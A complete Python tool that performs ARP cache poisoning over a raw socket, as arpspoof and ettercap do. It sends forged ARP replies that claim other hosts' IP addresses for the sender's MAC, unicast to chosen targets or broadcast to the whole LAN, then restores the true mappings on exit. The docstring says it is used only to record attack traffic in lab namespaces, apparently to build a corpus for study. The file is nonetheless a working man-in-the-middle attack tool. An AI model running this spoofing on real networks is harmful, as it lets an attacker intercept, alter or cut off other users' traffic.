"""ARP spoofing as arpspoof/ettercap do it, on a raw AF_PACKET socket.

arpspoof.py IFACE MY_MAC INTERVAL ROUNDS CLAIM [CLAIM ...]

Every INTERVAL seconds, ROUNDS times, it sends for each CLAIM an ARP reply
saying that CLAIMED_IP is at MY_MAC. A CLAIM is
CLAIMED_IP/TRUE_MAC@TARGET_IP/TARGET_MAC: the reply goes to TARGET_MAC
(ff:ff:ff:ff:ff:ff with TARGET_IP = CLAIMED_IP is a gratuitous reply to the
whole LAN). At the end it re-ARPs the true addresses (TRUE_MAC) three times,
half a second apart, as arpspoof does on exit. Used by record-attacks.sh and
record-corpus.sh in their lab namespaces only.
"""
import socket
import struct
import sys
import time


def mac(s):
    return bytes.fromhex(s.replace(":", ""))


def reply(mine, dst, sender_mac, sender_ip, target_mac, target_ip):
    return dst + mine + b"\x08\x06" + struct.pack(
        "!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, 2,
        sender_mac, socket.inet_aton(sender_ip), target_mac, socket.inet_aton(target_ip))


def main(argv):
    if len(argv) < 5:
        sys.exit(__doc__)
    iface, mine, interval, rounds = argv[0], mac(argv[1]), float(argv[2]), int(argv[3])
    claims = []
    for c in argv[4:]:
        claimed, target = c.split("@")
        claimed_ip, true_mac = claimed.split("/")
        target_ip, target_mac = target.split("/")
        claims.append((claimed_ip, mac(true_mac), target_ip, mac(target_mac)))
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((iface, 0))
    sent = 0
    for i in range(rounds):
        for claimed_ip, _, target_ip, target_mac in claims:
            s.send(reply(mine, target_mac, mine, claimed_ip, target_mac, target_ip))
            sent += 1
        if i < rounds - 1:
            time.sleep(interval)
    time.sleep(min(interval, 1.0))
    for _ in range(3):
        for claimed_ip, true_mac, target_ip, target_mac in claims:
            s.send(reply(mine, target_mac, true_mac, claimed_ip, target_mac, target_ip))
            sent += 1
        time.sleep(0.5)
    print("sent", sent, "ARP replies")


if __name__ == "__main__":
    main(sys.argv[1:])
